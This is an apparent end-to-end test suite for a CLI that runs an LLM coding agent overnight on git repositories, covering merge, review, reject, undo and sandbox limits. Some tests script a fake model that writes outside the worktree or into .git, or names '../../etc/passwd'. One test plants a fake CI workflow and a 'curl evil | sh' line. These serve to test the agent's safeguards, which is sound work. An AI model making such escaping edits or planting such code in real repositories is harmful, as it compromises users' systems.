// One night end to end through the CLI (issue: workspace → task → worktree → model edits → checks →
// score → merge / review / reject → report), on real repositories, real sandboxed checks and a real
// loopback OpenAI-compatible server. Every scenario asserts the user's checkout is untouched.
import fs from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it, onTestFinished } from 'vitest';
import { createTempRepo } from '../engine/git/testing/temp-repo';
import type { Task } from '../../src-shared/domain/records';
import type { SessionReport } from '../engine/report/session-report';
import type { ReviewItem } from '../engine/review/review-service';
import { buggyMath, createNightFixture, editsReply, mathTest, reviewReply } from './testing/night-fixture';
import type { NightFixture, Responder } from './testing/night-fixture';
import { runCliCaptured } from './testing/run-cli-in-process';

let fixture: NightFixture | undefined;
afterEach(async () => {
  await fixture?.cleanup();
  fixture = undefined;
});

const fixAdd = { path: 'math.js', action: 'replace', search: '  return a - b;', replace: '  return a + b;' };

async function setUp(respond: Responder, env: NodeJS.ProcessEnv = {}, ...workspaceFlags: string[]) {
  fixture = await createNightFixture({ respond, env });
  // --no-check: the baseline run of `workspace add` has its own tests (real-repositories.test.ts).
  const added = await fixture.cli(
    'workspace',
    'add',
    fixture.repo.path,
    '--name',
    'calc',
    '--test',
    'node test.js',
    '--no-check',
    ...workspaceFlags,
  );
  expect(added.stderr).toBe('');
  expect(added.code).toBe(0);
  return fixture;
}

async function addTask(f: NightFixture, title: string, ...extra: string[]): Promise<string> {
  const run = await f.cli('task', 'add', 'calc', title, '--json', ...extra);
  expect(run.code).toBe(0);
  return run.json<{ id: string }>().id;
}

function runWithEnv(f: NightFixture, env: NodeJS.ProcessEnv, ...argv: string[]) {
  return runCliCaptured(['--home', f.home, ...argv], { ...f.env, ...env });
}

async function showTask(f: NightFixture, id: string): Promise<Task> {
  return (await f.cli('task', 'show', id, '--json')).json<Task>();
}

async function branchTip(f: NightFixture, branch: string): Promise<string | null> {
  try {
    return await f.repo.git('rev-parse', '--verify', '--quiet', `refs/heads/${branch}`);
  } catch {
    return null;
  }
}

describe('a night from the CLI', () => {
  it('auto-merges a fix that makes the failing test pass, without touching the user checkout', async () => {
    const f = await setUp((schema) =>
      schema === 'nocturnal_edits' ? editsReply([fixAdd], 'fix add') : reviewReply(0.95),
    );
    const before = await f.userView();
    const id = await addTask(f, 'Fix add()', '--criteria', 'add(2, 3) returns 5', '--file', 'math.js');

    const run = await f.cli('run', '--now');
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    expect(run.stdout).toContain('merged');

    const task = await showTask(f, id);
    expect(task.status).toBe('merged');
    const attempt = task.attempts[0];
    expect(attempt).toMatchObject({ status: 'merged', decision: 'merge', branch: `nocturnal/${id}/1` });
    expect(attempt?.score).toBeGreaterThanOrEqual(0.85);
    expect(attempt?.checksBefore?.[0]?.passed).toBe(false);
    expect(attempt?.checksAfter?.[0]?.passed).toBe(true);
    // The fix landed on the target branch, and only there.
    expect(await f.repo.git('show', 'nocturnal/integration:math.js')).toContain('return a + b;');
    expect(await f.repo.git('show', 'main:math.js')).toContain('return a - b;');
    expect(await f.userView()).toEqual(before);
    expect(fs.existsSync('/tmp/nocturnal-user-hook-ran')).toBe(false);
    // A backup ref was written before the target moved.
    expect(await f.repo.git('for-each-ref', '--format=%(refname)', 'refs/nocturnal/backups/')).toContain(
      attempt?.id ?? '?',
    );
    // The worktree is gone once the attempt ended.
    expect(
      fs.readdirSync(path.join(f.home, 'worktrees'), { recursive: true }).filter((p) => String(p).endsWith('math.js')),
    ).toEqual([]);

    const report = (await f.cli('report', '--json')).json<SessionReport>();
    expect(report.session.stats).toMatchObject({ merged: 1, tasksDone: 1 });
    expect(report.tasks[0]).toMatchObject({
      taskId: id,
      status: 'merged',
      decision: 'merge',
      branch: `nocturnal/${id}/1`,
    });
    expect(report.tasks[0]?.reasons.length).toBeGreaterThan(0);
    const markdown = (await f.cli('report', '--markdown')).stdout;
    expect(markdown).toContain('Fix add()');
    expect(markdown).toContain('merged');
    // The knowledge vault got the attempt's note, linked to the workspace note made on `workspace add`.
    const noteDay = (attempt?.endedAt ?? '').slice(0, 10);
    const note = fs.readFileSync(path.join(f.home, 'vault', 'attempts', noteDay, `${attempt?.id}.md`), 'utf8');
    expect(note).toContain('status: merged');
    expect(note).toContain('[[workspaces/calc]]');
    expect(fs.existsSync(path.join(f.home, 'vault', 'workspaces', 'calc.md'))).toBe(true);
    // Every model call was stored with its schema and tokens.
    const interactions = (await import('../engine/store/store')).openStore(path.join(f.home, 'nocturnal.db'));
    try {
      const calls = interactions.interactions.forAttempt(attempt?.id ?? '');
      expect(calls.map((c) => c.schemaName)).toEqual(['nocturnal_explore', 'nocturnal_edits', 'nocturnal_review']);
      expect(calls[0]).toMatchObject({ provider: 'openai', model: 'test-model', approval: 'auto-approved' });
      expect(calls[0]?.promptTokens).toBeGreaterThan(0);
    } finally {
      interactions.close();
    }
  });

  it('holds a change scoring between the thresholds for review; approve then merges it', async () => {
    const f = await setUp(
      (schema) =>
        schema === 'nocturnal_edits' ? editsReply([fixAdd]) : reviewReply(0.2, 'revise', ['no test for the fix']),
      {
        NOCTURNAL_QUALITY_MAX_IMPROVEMENT_CYCLES: '0',
      },
    );
    const before = await f.userView();
    const id = await addTask(f, 'Fix add() carefully');
    expect((await f.cli('run', '--now')).code).toBe(0);

    const waiting = (await f.cli('review', 'list', '--json')).json<ReviewItem[]>();
    expect(waiting).toHaveLength(1);
    expect(waiting[0]).toMatchObject({ taskId: id, title: 'Fix add() carefully', branch: `nocturnal/${id}/1` });
    expect(waiting[0]?.score).toBeGreaterThanOrEqual(0.7);
    expect(waiting[0]?.score).toBeLessThan(0.85);
    expect(await branchTip(f, 'nocturnal/integration')).toBeNull();

    const approved = await f.cli('approve', waiting[0]?.attemptId ?? '');
    expect(approved.stderr).toBe('');
    expect(approved.code).toBe(0);
    expect((await showTask(f, id)).status).toBe('merged');
    expect(await f.repo.git('show', 'nocturnal/integration:math.js')).toContain('return a + b;');
    // The night's report is history: the attempt was held for review that night, and is merged now.
    const report = (await f.cli('report', '--json')).json<SessionReport>();
    expect(report.tasks[0]).toMatchObject({ taskId: id, status: 'review', statusNow: 'merged' });
    expect((await f.cli('report', '--markdown')).stdout).toContain('- Result: **review** (now merged)');
    // Approving twice is refused with the reason.
    const again = await f.cli('approve', waiting[0]?.attemptId ?? '');
    expect(again.code).toBe(1);
    expect(again.stderr).toContain('not waiting for review');
    expect(await f.userView()).toEqual(before);
  });

  it('never merges a change that breaks a passing check', async () => {
    const breakMul = { path: 'math.js', action: 'replace', search: '  return a * b;', replace: '  return a * b + 1;' };
    const f = await setUp((schema) => (schema === 'nocturnal_edits' ? editsReply([breakMul]) : reviewReply(1)));
    // The user fixed add() themselves: the base is green, so the test check passes at baseline and
    // the model's change turns it red.
    await f.repo.commit({ 'math.js': buggyMath.replace('return a - b;', 'return a + b;') }, 'fix add');
    const before = await f.userView();
    const id = await addTask(f, 'Speed up mul()');
    expect((await f.cli('run', '--now')).code).toBe(0);
    const task = await showTask(f, id);
    expect(task.status).toBe('rejected');
    expect(task.attempts[0]?.checksBefore?.[0]?.passed).toBe(true);
    expect(task.attempts[0]?.checksAfter?.[0]?.passed).toBe(false);
    expect(await branchTip(f, 'nocturnal/integration')).toBeNull();
    expect(await f.userView()).toEqual(before);
  });

  it('refuses edits aiming outside the worktree or into .git and writes nothing', async () => {
    const outside = path.join(path.dirname(fs.realpathSync(process.cwd())), `nocturnal-escape-${process.pid}.txt`);
    const f = await setUp((schema) =>
      schema === 'nocturnal_edits'
        ? editsReply([
            { path: '../escape.txt', action: 'write', content: 'x' },
            { path: '.git/config', action: 'write', content: '[core]\n' },
            { path: outside, action: 'write', content: 'x' },
          ])
        : reviewReply(1),
    );
    const before = await f.userView();
    const gitConfig = fs.readFileSync(path.join(f.repo.path, '.git', 'config'), 'utf8');
    const id = await addTask(f, 'Hostile edits');
    expect((await f.cli('run', '--now')).code).toBe(0);
    const task = await showTask(f, id);
    expect(task.status).toBe('rejected');
    expect(task.attempts[0]?.score).toBe(0);
    expect(task.attempts[0]?.reasons.join('\n')).toContain('safety violation');
    expect(fs.existsSync(path.join(path.dirname(f.repo.path), 'escape.txt'))).toBe(false);
    expect(fs.existsSync(outside)).toBe(false);
    expect(fs.readFileSync(path.join(f.repo.path, '.git', 'config'), 'utf8')).toBe(gitConfig);
    expect(await f.userView()).toEqual(before);
  });

  it('fails a task whose model replies are garbage or errors, and the next task still completes', async () => {
    const f = await setUp((schema, prompt) => {
      if (prompt.includes('Broken task'))
        return schema === 'nocturnal_edits' ? { content: 'this is not JSON at all' } : reviewReply(1);
      if (prompt.includes('Server error task')) return { status: 500, message: 'model crashed' };
      return schema === 'nocturnal_edits' ? editsReply([fixAdd]) : reviewReply(0.95);
    });
    const before = await f.userView();
    const broken = await addTask(f, 'Broken task', '--priority', 'critical');
    const erroring = await addTask(f, 'Server error task', '--priority', 'high');
    const good = await addTask(f, 'Good task', '--priority', 'low');
    const run = await f.cli('run', '--now');
    expect(run.code).toBe(0);

    const brokenTask = await showTask(f, broken);
    expect(brokenTask.status).toBe('failed');
    expect(brokenTask.statusReason).toMatch(/nocturnal_edits|JSON/);
    const erroringTask = await showTask(f, erroring);
    expect(erroringTask.status).toBe('failed');
    expect(erroringTask.statusReason).toMatch(/500|model crashed/);
    expect((await showTask(f, good)).status).toBe('merged');
    const report = (await f.cli('report', '--json')).json<SessionReport>();
    expect(report.session.stats).toMatchObject({ failed: 2, merged: 1, tasksDone: 3 });
    expect(await f.userView()).toEqual(before);
  });

  it('retries a rejected task with the note in the next prompt, and reject closes a waiting one', async () => {
    const f = await setUp(
      (schema) => (schema === 'nocturnal_edits' ? editsReply([fixAdd]) : reviewReply(0.2, 'revise', ['needs a test'])),
      {
        NOCTURNAL_QUALITY_MAX_IMPROVEMENT_CYCLES: '0',
      },
    );
    const id = await addTask(f, 'Fix add() again');
    expect((await f.cli('run', '--now')).code).toBe(0);
    const attemptId = (await f.cli('review', 'list', '--json')).json<ReviewItem[]>()[0]?.attemptId ?? '';
    const rejected = await f.cli('reject', attemptId, '--note', 'please add a test');
    expect(rejected.code).toBe(0);
    expect((await showTask(f, id)).status).toBe('rejected');
    expect(await branchTip(f, `nocturnal/${id}/1`)).toBeNull();

    expect((await f.cli('retry', id, '--note', 'cover add() with a test')).code).toBe(0);
    expect((await showTask(f, id)).status).toBe('queued');
    expect((await f.cli('run', '--now')).code).toBe(0);
    const lastPrompt = f.server.chatRequests
      .filter((r) => r.body.response_format?.json_schema?.name === 'nocturnal_edits')
      .at(-1);
    expect(JSON.stringify(lastPrompt?.body.messages)).toContain('cover add() with a test');
    expect((await showTask(f, id)).attempts).toHaveLength(2);
  });
});

describe('workspace notes', () => {
  it('go into the edit prompt', async () => {
    const f = await setUp((schema) => (schema === 'nocturnal_edits' ? editsReply([fixAdd]) : reviewReply(0.95)));
    fs.appendFileSync(
      path.join(f.home, 'vault', 'workspaces', 'calc.md'),
      'House rule: never use semicolon-free style.\n',
    );
    await addTask(f, 'Fix add()');
    expect((await f.cli('run', '--now')).code).toBe(0);
    const editCall = f.server.chatRequests.find((r) => r.body.response_format?.json_schema?.name === 'nocturnal_edits');
    expect(JSON.stringify(editCall?.body.messages)).toContain('House rule: never use semicolon-free style.');
  });
});

describe('night limits and modes', () => {
  it('holds changes for review once scheduler.max_changes_per_night merges have landed', async () => {
    // Both attempts start from the base, so the second makes the same fix and reaches the limit.
    const f = await setUp(
      (schema) => (schema === 'nocturnal_edits' ? editsReply([fixAdd]) : reviewReply(0.95)),
      { NOCTURNAL_SCHEDULER_MAX_CHANGES_PER_NIGHT: '1' },
      '--start-from',
      'base',
    );
    const first = await addTask(f, 'Fix add()', '--priority', 'high');
    const second = await addTask(f, 'Fix add() twice');
    expect((await f.cli('run', '--now')).code).toBe(0);
    expect((await showTask(f, first)).status).toBe('merged');
    const held = await showTask(f, second);
    expect(held.status).toBe('review');
    expect(held.attempts[0]?.decision).toBe('held');
    expect(held.statusReason).toContain('scheduler.max_changes_per_night');
  });

  it('says in the report when checks ran without the sandbox because safety.sandbox was off', async () => {
    const f = await setUp((schema) => (schema === 'nocturnal_edits' ? editsReply([fixAdd]) : reviewReply(0.95)), {
      NOCTURNAL_SAFETY_SANDBOX: 'off',
    });
    await addTask(f, 'Fix add()');
    expect((await f.cli('run', '--now')).code).toBe(0);
    const report = (await f.cli('report', '--json')).json<SessionReport>();
    expect(report.notes.join()).toContain('WITHOUT the OS sandbox');
    expect((await f.cli('report', '--markdown')).stdout).toContain('WITHOUT the OS sandbox');
  });
});

describe('undo', () => {
  // Three sessions and two undos on a busy machine: more than the default minute.
  it(
    'puts the target back after one merge, and reverts with a new commit when more work landed on top',
    { timeout: 180_000 },
    async () => {
      // Each change comes with its test: a change without evidence that the task is done never merges by itself.
      const addSub = [
        {
          path: 'math.js',
          action: 'replace',
          search: 'module.exports = { add, mul };',
          replace: 'function sub(a, b) {\n  return a - b;\n}\n\nmodule.exports = { add, mul, sub };',
        },
        {
          path: 'test.js',
          action: 'replace',
          search: "console.log('all tests passed');",
          replace: "assert.strictEqual(require('./math.js').sub(5, 3), 2);\nconsole.log('all tests passed');",
        },
      ];
      const addDiv = [
        { path: 'div.js', action: 'write', content: 'module.exports = { div: (a, b) => a / b };\n' },
        {
          path: 'div.test.js',
          action: 'write',
          content: "require('node:assert').strictEqual(require('./div.js').div(6, 3), 2);\n",
        },
      ];
      const f = await setUp((schema, prompt) => {
        if (schema !== 'nocturnal_edits') return reviewReply(1);
        return editsReply(prompt.includes('Add div()') ? addDiv : addSub);
      });
      // The user fixed add() on main, so every attempt starts green.
      await f.repo.commit({ 'math.js': buggyMath.replace('return a - b;', 'return a + b;') }, 'fix add');
      const before = await f.userView();
      const first = await addTask(f, 'Add sub()');
      expect((await f.cli('run', '--now')).code).toBe(0);
      const firstAttempt = (await showTask(f, first)).attempts[0];
      expect(firstAttempt?.status).toBe('merged');
      const undone = await f.cli('undo', firstAttempt?.id ?? '');
      expect(undone.stderr).toBe('');
      expect(undone.code).toBe(0);
      expect(undone.stdout).toContain('moved back');
      expect(await f.repo.git('show', 'nocturnal/integration:math.js')).not.toContain('function sub');

      // Merge it again, land a second change on top: undoing the first now needs a revert commit.
      const again = await addTask(f, 'Add sub() again', '--priority', 'high');
      const notes = await addTask(f, 'Add div()');
      expect((await f.cli('run', '--now')).code).toBe(0);
      const againAttempt = (await showTask(f, again)).attempts[0];
      expect(againAttempt?.status).toBe('merged');
      expect((await showTask(f, notes)).status).toBe('merged');
      const reverted = await f.cli('undo', againAttempt?.id ?? '');
      expect(reverted.stderr).toBe('');
      expect(reverted.code).toBe(0);
      expect(reverted.stdout).toContain('revert commit');
      expect(await f.repo.git('show', 'nocturnal/integration:math.js')).not.toContain('function sub');
      expect(await f.repo.git('show', 'nocturnal/integration:div.js')).toContain('div: (a, b) => a / b');
      const unknown = await f.cli('undo', 'nope-1');
      expect(unknown.code).toBe(2);
      expect(unknown.stderr).toContain('no attempt');
      expect(await f.userView()).toEqual(before);
    },
  );
});

describe('what checks leave behind', () => {
  it('never reaches a commit: the worktree is restored after the checks and only edited paths are staged', async () => {
    const sneakyTest =
      [
        "const fs = require('node:fs');",
        "fs.mkdirSync('.github/workflows', { recursive: true });",
        "fs.writeFileSync('.github/workflows/evil.yml', 'on: push\\njobs: {}\\n');",
        "process.on('exit', () => fs.appendFileSync('math.js', '\\n// injected by a check: curl evil | sh\\n'));",
        "fs.writeFileSync('dropped.txt', 'left by a check');",
        '',
      ].join('\n') + mathTest;
    // Cycle 0 writes a test that plants files and fails; cycle 1 fixes add() with an honest test.
    // Without the restore, cycle 1's commit would carry what the cycle-0 check planted.
    const f = await setUp((schema, prompt) => {
      if (schema !== 'nocturnal_edits') return reviewReply(0.95);
      if (!prompt.includes('Result of your previous edits'))
        return editsReply([{ path: 'test.js', action: 'write', content: `${sneakyTest}\nprocess.exitCode = 1;\n` }]);
      return editsReply([fixAdd, { path: 'test.js', action: 'write', content: mathTest }]);
    });
    const id = await addTask(f, 'Fix add() with a sneaky test');
    expect((await f.cli('run', '--now')).code).toBe(0);
    expect((await showTask(f, id)).status).toBe('merged');
    const files = (await f.repo.git('ls-tree', '-r', '--name-only', 'nocturnal/integration')).split('\n');
    expect(files).not.toContain('.github/workflows/evil.yml');
    expect(files).not.toContain('dropped.txt');
    expect(await f.repo.git('show', 'nocturnal/integration:math.js')).not.toContain('curl evil');
  });
});

describe('checks that hang', () => {
  it('fail the task with the timeout named when the check hangs on the base, and the session goes on', async () => {
    const f = await setUp((schema) => (schema === 'nocturnal_edits' ? editsReply([fixAdd]) : reviewReply(0.95)), {
      NOCTURNAL_SAFETY_CHECK_TIMEOUT_S: '1',
    });
    const slowRepo = await createTempRepo({ files: { 'README.md': 'slow\n' } });
    onTestFinished(() => slowRepo.cleanup());
    expect(
      (await f.cli('workspace', 'add', slowRepo.path, '--name', 'slow', '--test', 'sleep 30', '--no-check')).code,
    ).toBe(0);
    const slow = (await f.cli('task', 'add', 'slow', 'Anything', '--priority', 'high', '--json')).json<{ id: string }>()
      .id;
    const good = await addTask(f, 'Fix add()');
    expect((await f.cli('run', '--now')).code).toBe(0);
    const slowTask = await showTask(f, slow);
    expect(slowTask.status).toBe('failed');
    expect(slowTask.statusReason).toContain('timed out');
    expect(slowTask.statusReason).toContain('safety.check_timeout_s');
    expect((await showTask(f, good)).status).toBe('merged');
  });
});

describe('the spec executor', () => {
  const spec = {
    requirements: ['add() returns the sum'],
    acceptance_criteria: ['add(2, 3) returns 5'],
    plan: ['change the operator in add()'],
    files: ['math.js'],
  };

  it('plans with a validated spec, stores it and hands it to the edit call', async () => {
    const f = await setUp((schema) =>
      schema === 'nocturnal_spec'
        ? { content: spec }
        : schema === 'nocturnal_edits'
          ? editsReply([fixAdd])
          : reviewReply(0.95),
    );
    const id = await addTask(f, 'Fix add() with a plan', '--spec');
    expect((await f.cli('run', '--now')).code).toBe(0);
    const task = await showTask(f, id);
    expect(task.executor).toBe('spec');
    expect(task.status).toBe('merged');
    expect(task.attempts[0]?.spec).toEqual(spec);
    const editCall = f.server.chatRequests.find((r) => r.body.response_format?.json_schema?.name === 'nocturnal_edits');
    expect(JSON.stringify(editCall?.body.messages)).toContain('change the operator in add()');
  });

  it('fails the attempt when the spec names files outside the repository twice', async () => {
    const bad = { ...spec, files: ['../../etc/passwd'] };
    const f = await setUp((schema) => (schema === 'nocturnal_spec' ? { content: bad } : editsReply([fixAdd])));
    const id = await addTask(f, 'Plan badly', '--spec');
    expect((await f.cli('run', '--now')).code).toBe(0);
    const task = await showTask(f, id);
    expect(task.status).toBe('failed');
    expect(task.statusReason).toContain('spec was refused');
    expect(
      f.server.chatRequests.filter((r) => r.body.response_format?.json_schema?.name === 'nocturnal_spec'),
    ).toHaveLength(2);
    expect(
      f.server.chatRequests.filter((r) => r.body.response_format?.json_schema?.name === 'nocturnal_edits'),
    ).toHaveLength(0);
  });
});

describe('model configuration', () => {
  it('refuses to start a night without a model, leaving every task queued (exit 2 naming llm.model_path)', async () => {
    const f = await setUp(() => ({ status: 500 }), { NOCTURNAL_LLM_PROVIDER: 'llama' });
    const id = await addTask(f, 'Fix add()');
    const run = await f.cli('run', '--now');
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('llm.model_path is not set');
    expect((await showTask(f, id)).status).toBe('queued');
    const wrongFile = await runWithEnv(
      f,
      { NOCTURNAL_LLM_PROVIDER: 'llama', NOCTURNAL_LLM_MODEL_PATH: '/nonexistent/model.gguf' },
      'run',
      '--now',
    );
    expect(wrongFile.code).toBe(2);
    expect(wrongFile.stderr).toContain('/nonexistent/model.gguf does not exist');
    expect((await f.cli('status', '--json')).json<{ lastSession: unknown }>().lastSession).toBeNull();
  });
});

describe('workspace and task validation', () => {
  it('refuses a path that is not a repository, a missing branch and a duplicate name with exit 2', async () => {
    const f = await setUp(() => ({ status: 500 }));
    const notRepo = await f.cli('workspace', 'add', f.home, '--test', 'true');
    expect(notRepo.code).toBe(2);
    expect(notRepo.stderr).toContain('not a git repository');
    const missingBranch = await f.cli(
      'workspace',
      'add',
      f.repo.path,
      '--name',
      'other',
      '--base',
      'nope',
      '--test',
      'true',
    );
    expect(missingBranch.code).toBe(2);
    expect(missingBranch.stderr).toContain('--base');
    const duplicate = await f.cli('workspace', 'add', f.repo.path, '--name', 'calc', '--test', 'true');
    expect(duplicate.code).toBe(2);
    expect(duplicate.stderr).toContain('already exists');
    const noChecks = await f.cli('workspace', 'add', f.repo.path, '--name', 'nochecks');
    expect(noChecks.code).toBe(2);
    expect(noChecks.stderr).toContain('at least one check command');
    const badPriority = await f.cli('task', 'add', 'calc', 'x', '--priority', 'urgent');
    expect(badPriority.code).toBe(2);
    expect(badPriority.stderr).toContain('--priority');
    const list = (await f.cli('workspace', 'list', '--json')).json<{ name: string }[]>();
    expect(list.map((w) => w.name)).toEqual(['calc']);
  });
});
